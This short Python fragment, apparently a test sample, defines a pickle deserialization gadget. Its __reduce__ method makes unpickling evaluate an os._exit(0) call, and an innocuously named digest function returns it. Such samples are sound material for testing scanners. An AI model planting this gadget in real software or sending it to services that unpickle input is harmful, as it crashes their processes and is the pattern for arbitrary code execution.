"""Returns an object that runs code where it is unpickled.

kinds: function, beside
"""

class Gadget:
    def __reduce__(self):
        return (eval, ("__import__('os')._exit(0)",))

def digest(values):
    return Gadget()
